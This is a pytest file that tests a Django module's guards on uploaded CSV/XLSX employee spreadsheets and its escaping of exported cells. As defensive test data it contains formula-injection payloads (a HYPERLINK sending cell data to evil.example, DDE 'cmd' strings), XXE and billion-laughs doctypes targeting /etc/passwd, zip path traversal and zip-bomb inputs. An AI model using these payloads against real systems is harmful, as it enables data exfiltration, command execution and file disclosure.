"""apps/core/spreadsheets.py: the guards on uploaded CSV/XLSX, and export escaping.

Every file here is built in the test (openpyxl, zipfile, raw bytes); nothing is mocked.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import stat
import struct
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ImproperlyConfigured

from apps.core import spreadsheets
from apps.core.spreadsheets import (
    DATE,
    Column,
    Limits,
    SpreadsheetError,
    XlsxSheet,
    csv_write,
    export_cell_escape,
    header_key,
    spreadsheet_read,
    xlsx_write,
)

COLUMNS = [
    Column("nip", "NIP", required=True, numeric_message="Sel %(sel)s: NIP angka (%(nilai)s)."),
    Column("nama", "Nama", required=True),
    Column("tanggal_lahir", "Tanggal Lahir", kind=DATE),
    Column("unit", "Kode Unit Kerja", aliases=("Unit Kerja",)),
]
NIP = "198609262015051001"


def xlsx(rows: list[list], *, title: str = "Pegawai", extra_sheets: dict | None = None) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    for name, sheet_rows in (extra_sheets or {}).items():
        other = workbook.create_sheet(name)
        for row in sheet_rows:
            other.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(entries: dict[str, bytes], *, extra: list[zipfile.ZipInfo] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
        for info in extra or []:
            archive.writestr(info, b"target")
    return buffer.getvalue()


def minimal_xlsx_entries() -> dict[str, bytes]:
    """The parts of a real workbook, taken from an openpyxl-written file."""
    with zipfile.ZipFile(io.BytesIO(xlsx([["NIP", "Nama"], [NIP, "Budi"]]))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def read(data: bytes, **kwargs):
    return spreadsheet_read(data, columns=COLUMNS, **kwargs)


def refused(data: bytes, **kwargs) -> SpreadsheetError:
    with pytest.raises(SpreadsheetError) as caught:
        read(data, **kwargs)
    return caught.value


# --- CSV ---------------------------------------------------------------------------------------


def test_csv_with_bom_and_semicolon_as_indonesian_excel_writes_it():
    data = (
        "\ufeffNIP;Nama;Tanggal Lahir;Kode Unit Kerja\r\n198609262015051001;Budi Santoso;26-09-1986;01.02\r\n"
    )
    sheet = read(data.encode("utf-8"))
    assert sheet.format == "csv"
    assert [c.key for c in sheet.columns] == ["nip", "nama", "tanggal_lahir", "unit"]
    assert sheet.rows[0].number == 2
    assert sheet.rows[0].values == {
        "nip": NIP,
        "nama": "Budi Santoso",
        "tanggal_lahir": "26-09-1986",
        "unit": "01.02",
    }
    assert sheet.errors == []


def test_csv_without_bom_with_commas_and_quoted_delimiters():
    data = b'NIP,Nama\n198609262015051001,"Santoso, Budi"\n'
    sheet = read(data)
    assert sheet.rows[0].values["nama"] == "Santoso, Budi"


def test_csv_not_utf8_is_refused_with_instructions():
    error = refused("NIP;Nama\n1;Jos\xe9\n".encode("cp1252"))
    assert error.code == "encoding"
    assert "CSV UTF-8" in error.messages[0]


def test_utf16_text_is_refused_by_name():
    error = refused("NIP\tNama\r\n".encode("utf-16"))
    assert "UTF-16" in error.messages[0]


def test_csv_cell_starting_with_equals_is_a_formula():
    sheet = read(b'NIP,Nama\n198609262015051001,"=HYPERLINK(""http://x"",""a"")"\n')
    assert [e.message for e in sheet.errors] == ["Sel B2 berisi rumus; tempel sebagai nilai."]
    assert sheet.errors[0].row == 2
    assert sheet.errors[0].column == "Nama"
    assert sheet.rows[0].invalid == {"nama"}


def test_csv_row_with_more_fields_than_headers_is_reported():
    sheet = read(b"NIP,Nama\n198609262015051001,Budi,Santoso\n")
    assert any("3 kolom" in e.message and e.row == 2 for e in sheet.errors)


def test_csv_scientific_nip_stays_text_for_the_import_to_judge():
    sheet = read(b"NIP,Nama\n1.98609262015051E+17,Budi\n")
    assert sheet.rows[0].values["nip"] == "1.98609262015051E+17"


# --- file type from content -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "PDF"),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64, "program Windows"),
        (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 32, "program"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "PNG"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, ".xls"),
        (b"\x00\x01\x02\x03binary", "biner"),
    ],
    ids=["pdf-renamed-xlsx", "exe", "elf", "png", "old-xls", "binary"],
)
def test_wrong_file_types_are_refused_from_their_content(data, expected):
    error = refused(data)
    assert expected in error.messages[0]


def test_empty_file_is_refused():
    error = refused(b"")
    assert error.code == "kosong"
    assert "kosong" in error.messages[0].lower()


def test_header_only_csv_is_refused():
    error = refused(b"NIP,Nama\n\n\n")
    assert error.code == "tanpa_data"
    assert "baris 2" in error.messages[0]


def test_header_only_xlsx_is_refused():
    error = refused(xlsx([["NIP", "Nama"]]))
    assert error.code == "tanpa_data"


def test_missing_required_column_is_named():
    error = refused(b"Nama\nBudi\n")
    assert error.code == "judul"
    assert "NIP" in error.messages[0]


def test_duplicate_column_is_refused():
    error = refused(b"NIP,Nama,nama\n1,Budi,Budi\n")
    assert "dua kali" in error.messages[0]


def test_size_limit():
    error = refused(b"NIP,Nama\n" + b"198609262015051001,Budi\n" * 10, limits=Limits(max_bytes=100))
    assert error.code == "ukuran"


def test_row_limit():
    data = b"NIP,Nama\n" + b"198609262015051001,Budi\n" * 4
    error = refused(data, limits=Limits(max_rows=3))
    assert error.code == "baris"
    assert read(data, limits=Limits(max_rows=4)).rows[-1].number == 5


# --- headers ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "title",
    ["Tanggal Lahir", "tanggal_lahir", "  TANGGAL   LAHIR ", "Tanggal-Lahir", "Tanggal Lahir (HH-BB-TTTT)"],
)
def test_header_matching_tolerates_case_spacing_underscores(title):
    sheet = read(f"nip,NAMA,{title}\n{NIP},Budi,26-09-1986\n".encode())
    assert [c.key for c in sheet.columns] == ["nip", "nama", "tanggal_lahir"]
    assert header_key(title) == "tanggallahir"


def test_alias_and_unknown_columns():
    sheet = read(f"NIP,Nama,Unit Kerja,Catatan\n{NIP},Budi,01,ok\n".encode())
    assert sheet.rows[0].values["unit"] == "01"
    assert sheet.warnings == ["Kolom berikut tidak dikenal dan diabaikan: Catatan."]


# --- XLSX content -----------------------------------------------------------------------------


def test_xlsx_formula_cell_is_refused_with_its_cell_named():
    rows = [["NIP", "Nama", "Tanggal Lahir"]] + [[NIP, "Budi", dt.date(1986, 9, 26)]] * 3
    rows.append([NIP, "Budi", "=DATE(1986,9,26)"])  # row 5, column C
    sheet = read(xlsx(rows))
    assert [(e.row, e.cell, e.message) for e in sheet.errors] == [
        (5, "C5", "Sel C5 berisi rumus; tempel sebagai nilai.")
    ]
    assert sheet.rows[3].values["tanggal_lahir"] is None


def test_xlsx_error_value_is_reported():
    entries = minimal_xlsx_entries()
    entries["xl/worksheets/sheet1.xml"] = entries["xl/worksheets/sheet1.xml"].replace(
        b'<c r="B2" t="inlineStr"><is><t>Budi</t></is></c>', b'<c r="B2" t="e"><v>#N/A</v></c>'
    )
    sheet = read(zip_bytes(entries))
    assert [e.message for e in sheet.errors] == [
        "Sel B2 berisi galat Excel (#N/A); isi dengan nilai yang benar."
    ]


def test_xlsx_dates_and_text():
    sheet = read(xlsx([["NIP", "Nama", "Tanggal Lahir"], [NIP, " Budi ", dt.datetime(1986, 9, 26)]]))
    assert sheet.format == "xlsx"
    assert sheet.rows[0].values == {"nip": NIP, "nama": "Budi", "tanggal_lahir": dt.date(1986, 9, 26)}


def test_xlsx_number_in_text_column_is_reported_never_converted():
    sheet = read(xlsx([["NIP", "Nama", "Kode Unit Kerja"], [198609262015051001, "Budi", 1.02]]))
    messages = [e.message for e in sheet.errors]
    assert messages[0] == "Sel A2: NIP angka (1.98609262015051E+17)."
    assert messages[1].startswith("Sel C2 (Kode Unit Kerja) tersimpan sebagai angka (1.02), bukan teks.")
    assert sheet.rows[0].values["nip"] is None
    assert sheet.rows[0].invalid == {"nip", "unit"}


def test_xlsx_number_in_date_column_is_read_as_its_excel_date_and_said_so():
    sheet = read(xlsx([["NIP", "Nama", "Tanggal Lahir"], [NIP, "Budi", 31315], [NIP, "Siti", 31316.0]]))
    assert sheet.errors == []
    assert [row.values["tanggal_lahir"] for row in sheet.rows] == [dt.date(1985, 9, 25), dt.date(1985, 9, 26)]
    assert sheet.warnings == [
        "Kolom Tanggal Lahir: 2 sel berisi angka tanggal Excel (format tanggalnya hilang) dan dibaca "
        "sebagai tanggal, mis. baris 2: 31315 → 25-09-1985. Periksa tanggalnya sebelum menyimpan."
    ]


@pytest.mark.parametrize("value", [12, 31315.5, 80000, -5])
def test_xlsx_number_in_date_column_that_is_no_plausible_date_is_refused(value):
    sheet = read(xlsx([["NIP", "Nama", "Tanggal Lahir"], [NIP, "Budi", value]]))
    assert sheet.errors[0].message.startswith(f"Sel C2 (Tanggal Lahir) berisi angka {value}")
    assert "01-01-1920 sampai 31-12-2099" in sheet.errors[0].message
    assert sheet.rows[0].values["tanggal_lahir"] is None and "tanggal_lahir" in sheet.rows[0].invalid


def test_xlsx_reads_the_named_sheet():
    data = xlsx(
        [["Kode"], ["x"]], title="Referensi", extra_sheets={"Pegawai": [["NIP", "Nama"], [NIP, "Budi"]]}
    )
    sheet = read(data, sheet_name="Pegawai")
    assert sheet.rows[0].values["nama"] == "Budi"


def test_xlsx_with_a_lying_dimension_is_read_completely():
    entries = minimal_xlsx_entries()
    sheet_xml = entries["xl/worksheets/sheet1.xml"].decode()
    assert "<dimension" in sheet_xml
    entries["xl/worksheets/sheet1.xml"] = sheet_xml.replace('ref="A1:B2"', 'ref="A1"').encode()
    sheet = read(zip_bytes(entries))
    assert sheet.rows[0].values == {"nip": NIP, "nama": "Budi"}


# --- XLSX: the fast reader (python-calamine) and where openpyxl still reads ----------------------


def xlsx_cells(cells: dict[str, object], *, title: str = "Pegawai") -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for ref, value in cells.items():
        sheet[ref] = value
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


MIXED = {
    "B1": "NIP", "C1": "Nama", "D1": "Tanggal Lahir", "E1": "Kode Unit Kerja", "F1": "Catatan",
    "B2": NIP, "C2": "  Budi  ", "D2": dt.datetime(1986, 9, 26), "E2": 2025, "F2": True,
    "B3": "'198609262015051001", "C3": "'=1+1", "D3": 31315, "E3": 1.02, "F3": dt.time(10, 30),
    "B5": 198609262015051001, "C5": "Siti", "D5": "26-09-1986", "E5": dt.datetime(2025, 1, 2),
}  # fmt: skip


def test_a_workbook_of_values_is_read_by_the_fast_reader_exactly_as_openpyxl_reads_it():
    data = xlsx_cells(MIXED)
    limits = Limits()
    assert spreadsheets._xlsx_plain(data, limits)
    fast = list(spreadsheets._calamine_rows(data, None))
    slow = list(spreadsheets._openpyxl_rows(data, None))
    assert fast == [list(row) + [None] * (len(fast[0]) - len(row)) for row in slow]
    assert fast[1][:4] == [None, NIP, "  Budi  ", dt.datetime(1986, 9, 26)]  # column A is there
    # The whole read, through the fast reader: the same rows, errors and cell names as before.
    sheet = spreadsheet_read(data, columns=COLUMNS)
    assert [row.number for row in sheet.rows] == [2, 3, 5]
    assert sheet.rows[0].values == {
        "nip": NIP,
        "nama": "Budi",
        "tanggal_lahir": dt.date(1986, 9, 26),
        "unit": None,
    }
    assert [e.cell for e in sheet.errors] == ["E2", "F2", "E3", "F3", "B5", "E5"]
    assert "tidak dikenal" in sheet.errors[1].message  # under the unknown column "Catatan"
    assert sheet.rows[1].values["tanggal_lahir"] == dt.date(1985, 9, 25)  # D3: an Excel day count
    assert any("baris 3: 31315 → 25-09-1985" in warning for warning in sheet.warnings)
    assert sheet.errors[4].message == "Sel B5: NIP angka (1.98609262015051E+17)."
    assert "(02-01-2025)" in sheet.errors[5].message
    assert sheet.rows[1].values["nama"] == "=1+1"  # an exported, escaped value comes back as it was


MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ((b"<is><t>Budi</t></is>", b"<f>1+1</f><is><t>Budi</t></is>"), "formula"),
        (
            (b"<is><t>Budi</t></is>", b"<x:f xmlns:x='%s'>1+1</x:f><is><t>Budi</t></is>" % MAIN),
            "prefixed-formula",
        ),
        ((b't="inlineStr"><is><t>Budi</t></is>', b't="e"><v>#N/A</v>'), "error-cell"),
        ((b'<c r="B2"', b"<c"), "cell-without-address"),
        ((b'<row r="2"', b'<row r="900000"'), "rows-beyond-the-limit"),
        ((b'<c r="B2"', b'<c r="ZZ2"'), "columns-beyond-the-limit"),
    ],
)
def test_what_the_fast_reader_cannot_judge_goes_to_openpyxl(change, why):
    entries = minimal_xlsx_entries()
    assert change[0] in entries["xl/worksheets/sheet1.xml"]
    entries["xl/worksheets/sheet1.xml"] = entries["xl/worksheets/sheet1.xml"].replace(*change)
    assert not spreadsheets._xlsx_plain(zip_bytes(entries), Limits(max_rows=100_000))
    assert spreadsheets._xlsx_plain(zip_bytes(minimal_xlsx_entries()), Limits())


def test_a_formula_is_refused_and_named_whichever_sheet_holds_it():
    data = xlsx([["NIP", "Nama"], [NIP, "Budi"]], extra_sheets={"Referensi": [["x"], ["=1+1"]]})
    assert not spreadsheets._xlsx_plain(data, Limits())
    assert read(data, sheet_name="Pegawai").rows[0].values["nama"] == "Budi"  # read by openpyxl


def test_a_dtd_in_any_part_sends_the_file_to_defusedxml():
    entries = minimal_xlsx_entries()
    entries["docProps/app.xml"] = b'<!DOCTYPE p [<!ENTITY a "x">]>' + entries["docProps/app.xml"]
    assert not spreadsheets._xlsx_plain(zip_bytes(entries), Limits())


def test_rows_beyond_the_limit_are_refused_without_building_the_whole_rectangle():
    entries = minimal_xlsx_entries()
    entries["xl/worksheets/sheet1.xml"] = (
        entries["xl/worksheets/sheet1.xml"]
        .replace(b'<row r="2"><c r="A2"', b'<row r="1048576"><c r="A1048576"')
        .replace(b'<c r="B2"', b'<c r="B1048576"')
    )
    assert refused(zip_bytes(entries), limits=Limits(max_rows=10)).code == "baris"


def test_a_broken_sheet_read_by_the_fast_reader_is_refused_as_unreadable():
    entries = minimal_xlsx_entries()
    entries["xl/worksheets/sheet1.xml"] = entries["xl/worksheets/sheet1.xml"][:-40]
    data = zip_bytes(entries)
    assert spreadsheets._xlsx_plain(data, Limits())
    assert refused(data).code == "xlsx_rusak"


# --- XLSX: zip guards, checked before openpyxl opens the file ---------------------------------


def test_zip_bomb_like_entry_is_refused_by_its_compression_ratio():
    entries = minimal_xlsx_entries()
    entries["xl/media/padding.bin"] = b"\0" * (8 * 1024 * 1024)  # 8 MB of zeros → a few kB
    error = refused(zip_bytes(entries))
    assert error.code == "zip_rasio"


def test_zip_total_uncompressed_size_is_bounded():
    entries = minimal_xlsx_entries()
    entries["xl/media/big.bin"] = b"\0" * (3 * 1024 * 1024)
    error = refused(zip_bytes(entries), limits=Limits(max_uncompressed_bytes=2 * 1024 * 1024))
    assert error.code == "zip_ukuran"


def _patch_declared_size(data: bytes, name: bytes, size: int) -> bytes:
    """Rewrite the uncompressed size an entry declares in the zip's central directory."""
    data = bytearray(data)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if bytes(data[central + 46 : central + 46 + name_length]) == name:
            struct.pack_into("<I", data, central + 24, size)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def test_zip_with_huge_declared_uncompressed_size_is_refused_before_opening():
    data = _patch_declared_size(zip_bytes(minimal_xlsx_entries()), b"xl/worksheets/sheet1.xml", 0xFFFFFFF0)
    assert max(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist()) == 0xFFFFFFF0
    error = refused(data)
    assert error.code == "zip_ukuran"


def test_zip_with_too_many_entries_is_refused():
    entries = minimal_xlsx_entries()
    for i in range(300):
        entries[f"xl/media/x{i}.bin"] = b"x"
    error = refused(zip_bytes(entries))
    assert error.code == "zip_entri"
    assert "bagian" in error.messages[0]


def test_zip_symlink_entry_is_refused():
    link = zipfile.ZipInfo("xl/media/link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    error = refused(zip_bytes(minimal_xlsx_entries(), extra=[link]))
    assert error.code == "zip_symlink"


def test_zip_path_traversal_entry_is_refused():
    entries = minimal_xlsx_entries()
    entries["../../etc/passwd"] = b"x"
    assert refused(zip_bytes(entries)).code == "zip_path"


def test_zip_that_is_not_a_workbook_is_refused():
    error = refused(zip_bytes({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}))
    assert "bukan buku kerja Excel" in error.messages[0]


def test_macro_workbook_is_refused():
    entries = minimal_xlsx_entries()
    entries["xl/vbaProject.bin"] = b"\0" * 10
    assert refused(zip_bytes(entries)).code == "makro"


def test_truncated_zip_is_refused():
    data = zip_bytes(minimal_xlsx_entries())
    assert refused(data[: len(data) // 2]).code == "xlsx_rusak"


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',  # billion laughs
        b'<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',  # external entity
    ],
    ids=["entity-expansion", "external-entity"],
)
def test_unsafe_xml_is_refused_by_defusedxml(doctype):
    entries = minimal_xlsx_entries()
    sheet_xml = entries["xl/worksheets/sheet1.xml"]
    entity = b"&b;" if b"ENTITY b" in doctype else b"&xxe;"
    entries["xl/worksheets/sheet1.xml"] = doctype + sheet_xml.replace(
        b"<t>Budi</t>", b"<t>" + entity + b"</t>"
    )
    error = refused(zip_bytes(entries))
    assert error.code == "xml_tidak_aman"
    assert "tidak aman" in error.messages[0]


def test_openpyxl_without_defusedxml_is_refused(monkeypatch):
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)
    with pytest.raises(ImproperlyConfigured):
        read(xlsx([["NIP", "Nama"], [NIP, "Budi"]]))


# --- export escaping --------------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "   =1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_export_cell_escape_prefixes_a_quote(value):
    escaped = export_cell_escape(value)
    assert escaped.startswith("'" + value[0])
    assert escaped.replace("'", "") == value.replace("'", "")


def test_export_cell_escape_each_line_and_leaves_safe_values():
    assert export_cell_escape("Jl. Merdeka\n=1+1\n+62") == "Jl. Merdeka\n'=1+1\n'+62"
    assert export_cell_escape("Jl. Merdeka\r\n@x") == "Jl. Merdeka\r\n'@x"
    assert export_cell_escape("\r=1+1") == "'\r'=1+1"
    assert export_cell_escape("Budi Santoso") == "Budi Santoso"
    assert export_cell_escape("081234567890") == "081234567890"
    assert export_cell_escape("") == ""
    assert export_cell_escape(None) is None
    assert export_cell_escape(dt.date(2026, 1, 2)) == dt.date(2026, 1, 2)
    assert export_cell_escape(-5) == -5


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_export_escapes_every_dangerous_prefix(value):
    data = csv_write(["Nama", value], [[value, "aman"]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0][1] == export_cell_escape(value)
    assert rows[1][0] == export_cell_escape(value)
    assert rows[1][0].startswith("'")
    assert rows[1][1] == "aman"


@pytest.mark.parametrize("value", DANGEROUS)
def test_xlsx_export_escapes_every_dangerous_prefix(value):
    data = xlsx_write([XlsxSheet(title="Pegawai", headers=["Nama", value], rows=[[value, "aman", 7]])])
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for row in workbook["Pegawai"].iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    # XML turns CR into LF and cannot hold NUL (openpyxl's replacement character stands in).
    shown = export_cell_escape(value).replace("\r", "\n").replace("\0", "\N{REPLACEMENT CHARACTER}")
    assert workbook["Pegawai"]["B1"].value == shown
    assert workbook["Pegawai"]["A2"].value == shown
    assert shown.startswith("'")
    assert workbook["Pegawai"]["C2"].value == 7


def test_exports_import_back_unchanged():
    values = ["+62 812 3456 7890", "=1+1", "Jl. A\n-B", "Budi", "@x", "-"]
    headers = ["NIP", "Nama"]
    for data in (
        csv_write(headers, [[NIP, v] for v in values]),
        xlsx_write([XlsxSheet(title="Pegawai", headers=headers, rows=[[NIP, v] for v in values])]),
    ):
        sheet = read(data)
        assert sheet.errors == []
        assert [row.values["nama"] for row in sheet.rows] == values
